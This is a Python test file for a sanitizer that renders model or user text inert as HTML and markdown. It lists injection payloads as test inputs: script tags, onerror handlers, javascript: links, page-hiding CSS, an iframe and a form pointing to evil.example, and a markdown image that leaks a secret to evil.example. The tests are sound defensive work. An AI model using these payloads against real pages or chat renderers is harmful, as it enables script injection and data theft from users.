"""Text of a model or user is inert: whatever it holds, no tag and no image of its own reaches the page."""

from __future__ import annotations

import html as stdlib_html
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from playground.text import html, inert, plain, well_formed

OURS = re.compile(r"</?(?:code|pre)>")
EVIL = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<div style="position:fixed;inset:0;background:red">all yours</div>',
    "<style>body{display:none}</style>",
    "<form action=https://evil.example><input name=q></form>",
    "<iframe src=https://evil.example></iframe>",
    "<svg onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/pixel.png",
    "```\n<style>*{display:none}</style>\n```",
    "```html\n<div>\n```\n<div style=position:fixed>after</div>",
    "- ```\n  x\n  ```\n  <div style=position:fixed>in a list</div>",
    "- a\n  ```\n<div style=position:fixed>dedented</div>\n  ```",
    "> ```\n<div>out of the quote</div>\n```",
    "`a` <b>x</b> `c",
    "`<img src=x onerror=alert(1)>`",
    "``<script>`</script>``",
    "\\`<script>alert(1)</script>`",
    '[a]: /u "title\n```\n" \n<div style=position:fixed>\n```',
    "~~~\n</code></pre><script>alert(1)</script>\n~~~",
    "<!-- comment --><!DOCTYPE html><?php",
    "<https://evil.example>",
    "</div></div></div>",
    "\x00<script\x00>alert(1)</script>",
)


def tags(markdown: str) -> list[str]:
    """What an HTML parser could take for a tag, our own `code` and `pre` left out."""
    return re.findall(r"<[A-Za-z/!?][^>]*", OURS.sub("", markdown))


@pytest.mark.parametrize("text", EVIL)
def test_no_tag_and_no_image_gets_through(text: str) -> None:
    shown = inert(text)
    assert tags(shown) == []
    assert "![" not in re.sub(r"`[^`]*`", "", shown)


@pytest.mark.parametrize("text", EVIL)
def test_the_text_itself_is_all_there(text: str) -> None:
    without_languages = re.sub(r"(?m)^(```|~~~)\w*$", "", plain(text))
    letters = re.sub(r"[^A-Za-z0-9]", "", without_languages)
    shown = stdlib_html.unescape(OURS.sub("", inert(text)))
    assert re.sub(r"[^A-Za-z0-9]", "", shown) == letters


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet='<>/`~!&[](): \n\\abdistyle-"=', max_size=80))
def test_no_tag_gets_through_whatever_is_written(text: str) -> None:
    assert tags(inert(text)) == []


def test_code_stays_readable() -> None:
    assert inert("so `a<b` and `a & b` hold") == ("so <code>a&#60;b</code> and <code>a &#38; b</code> hold")
    assert inert("```c\nif (a < 3 && b) x = `1`;\n```").strip() == "```c\nif (a < 3 && b) x = `1`;\n```"
    assert "<pre><code>#include &lt;stdio.h></code></pre>" in inert("```c\n#include <stdio.h>\n```")
    assert inert("plain *text* with `code`") == "plain *text* with `code`"


def test_a_fence_that_is_still_open_is_code() -> None:
    assert inert("look:\n```python\nx = 1").strip() == "look:\n\n```python\nx = 1\n```"


def test_characters_that_no_page_can_carry_are_replaced() -> None:
    assert plain("a\x00b\ud800c\u202ed\u2066e") == "a\ufffdb\ufffdcde"
    inert("\ud83d half an emoji").encode()


def test_html_escapes_for_attributes_too() -> None:
    assert html("""<b a="1" b='2'>&</b>""") == "&lt;b a=&quot;1&quot; b=&#39;2&#39;&gt;&amp;&lt;/b&gt;"


def test_lone_surrogates_alone_are_replaced() -> None:
    assert well_formed("a\ud83d \ude00b \U0001f600 \x00 \u202e") == "a\ufffd \ufffdb \U0001f600 \x00 \u202e"
